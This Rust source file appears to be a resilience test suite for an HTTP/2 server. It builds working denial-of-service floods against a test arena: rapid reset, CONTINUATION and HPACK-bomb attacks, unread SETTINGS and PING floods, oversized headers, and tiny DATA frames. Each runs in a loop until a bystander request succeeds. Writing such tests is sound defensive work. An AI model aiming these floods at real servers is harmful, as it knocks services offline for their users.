//! Floods of HTTP/2 frames that mean nothing.

use std::{io, time::Duration};

use futures_util::future::join_all;
use prost::Message;

use crate::{
    messages::same_pair,
    raw,
    scenes::{box_points, plain},
    support::{
        INFO, QUERY, STREAM,
        arena::Arena,
        http2::{
            CONTINUATION, DATA, END_HEADERS, HEADERS, PING, Peer, RST_STREAM, SETTINGS, Windows, frame,
            header_block, literal,
        },
    },
};

attacks! {
    /// Catches calls that are reset as fast as they are made (CVE-2023-44487) and pile up.
    rapid_reset: "calls that are reset as fast as they are made" => rapid_reset;
    /// Catches headers that never end and are kept (CVE-2024-27316).
    continuation: "headers that never end" => continuation;
    /// Catches answers to settings that pile up for a peer that does not read them.
    settings: "settings without end, answers not read" => settings;
    /// Catches answers to pings that pile up for a peer that does not read them.
    pings: "pings without end, answers not read" => pings;
    /// Catches headers that grow when they are decompressed.
    hpack: "headers that are small until they are decompressed" => hpack;
    /// Catches calls that hold their headers and nothing else for as long as they like.
    headers: "10,000 calls of 15 KiB of headers each, whose messages never come" => large_headers;
    /// Catches frames that cost more to keep than their bytes, while a stream computes.
    small_frames: "frames of one byte while a stream computes" => small_frames;
    /// Catches frames that no window counts, while a stream computes.
    empty_frames: "frames of no byte while a stream computes" => empty_frames;
}

/// Lets 4 attackers attack again and again, each with connections of its own, until the
/// bystander was answered often enough.
async fn again_and_again(arena: &Arena, attack: impl AsyncFn(&Arena) -> io::Result<()>) {
    let attackers = (0..4).map(async |_| {
        loop {
            // An attack ends in an error where the server ends the connection.
            let _ = attack(arena).await;
        }
    });
    tokio::select! {
        () = arena.bystander_answered(arena.size().of(400)) => {}
        _ = join_all(attackers) => {}
    }
}

async fn rapid_reset(arena: &Arena) {
    arena.begin().await;
    again_and_again(arena, async |arena| {
        let mut peer = arena.peer(Windows::OPEN).await?;
        let block = header_block(QUERY, &[]);
        loop {
            let mut both = Vec::new();
            for _ in 0..100 {
                let stream = peer.next_stream();
                both.extend(frame(HEADERS, END_HEADERS, stream, &block));
                both.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            }
            peer.send(&both).await?;
        }
    })
    .await;
}

async fn continuation(arena: &Arena) {
    arena.begin().await;
    again_and_again(arena, async |arena| {
        let mut peer = arena.peer(Windows::OPEN).await?;
        let stream = peer.next_stream();
        peer.send(&frame(HEADERS, 0, stream, &header_block(QUERY, &[]))).await?;
        let mut more = Vec::new();
        literal(&mut more, "x-more", &"m".repeat(16_000));
        let more = frame(CONTINUATION, 0, stream, &more);
        loop {
            peer.send(&more).await?;
        }
    })
    .await;
}

async fn settings(arena: &Arena) {
    // Nothing of it changes anything: ENABLE_PUSH is 0 as it was.
    never_read(arena, frame(SETTINGS, 0, 0, &[0, 2, 0, 0, 0, 0])).await;
}

async fn pings(arena: &Arena) {
    never_read(arena, frame(PING, 0, 0, b"pingpong")).await;
}

/// Sends a frame without end and reads nothing.
async fn never_read(arena: &Arena, flood: Vec<u8>) {
    use tokio::io::AsyncWriteExt;
    let flood = flood.repeat(1000);
    arena.begin().await;
    again_and_again(arena, async |arena| {
        let mut stream = arena.stream().await?;
        stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
        stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
        loop {
            // A server that stops reading defends itself: the writer waits then.
            stream.write_all(&flood).await?;
        }
    })
    .await;
}

async fn hpack(arena: &Arena) {
    arena.begin().await;
    again_and_again(arena, async |arena| {
        let mut peer = arena.peer(Windows::OPEN).await?;
        // A literal that the table keeps, and then one byte for each use of it.
        let mut bomb = header_block(QUERY, &[]);
        let mut kept = Vec::new();
        literal(&mut kept, "x", &"b".repeat(4000));
        kept[0] = 0x40;
        bomb.extend(kept);
        bomb.extend([0xbe; 12_000]);
        loop {
            let stream = peer.next_stream();
            peer.send(&frame(HEADERS, END_HEADERS, stream, &bomb)).await?;
        }
    })
    .await;
}

async fn large_headers(arena: &Arena) {
    let large = "h".repeat(15_000);
    arena.begin().await;
    let mut peers = Vec::new();
    for _ in 0..10 {
        let Ok(mut peer) = arena.peer(Windows::OPEN).await else { continue };
        for _ in 0..arena.size().of(1000) {
            if peer.call(QUERY, &[("x-large", &large)]).await.is_err() {
                break;
            }
        }
        peers.push(peer);
    }
    arena.bystander_answered(arena.size().of(400)).await;
}

async fn small_frames(arena: &Arena) {
    beside_computing(arena, &[0]).await;
}

async fn empty_frames(arena: &Arena) {
    beside_computing(arena, &[]).await;
}

/// Sends frames of this payload while the stream's first message is computed, on 4 connections.
async fn beside_computing(arena: &Arena, payload: &[u8]) {
    let ids = arena.register(&[plain(box_points(0.5, 0.5, 0.5))]).await;
    let question = same_pair(&ids, arena.size().of(131_072), 0.9).encode_to_vec();
    let question = raw::frame(false, &question);
    arena.begin().await;
    again_and_again(arena, async |arena| {
        // The answer is not read, so that the stream does not come to read on.
        let mut peer = arena.peer(Windows { stream: 1000, connection: 1 << 20 }).await?;
        let stream = peer.call(STREAM, &[]).await?;
        peer.body(stream, &question, false).await?;
        let frames = frame(DATA, 0, stream, payload).repeat(100);
        loop {
            if payload.is_empty() {
                peer.send(&frames).await?;
            } else {
                peer.body(stream, payload, false).await?;
            }
        }
    })
    .await;
    // The attacker's closed connections count for its address until the server has noticed their end.
    while let Err(refused) = ask_for_information(arena).await {
        println!("the attacker's address is refused for now: {refused}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// An ordinary call from the attacker's address.
async fn ask_for_information(arena: &Arena) -> io::Result<()> {
    let mut peer: Peer = arena.peer(Windows::OPEN).await?;
    let call = peer.ask(INFO, &raw::frame(false, &[])).await?;
    peer.ended(call).await?;
    Ok(())
}
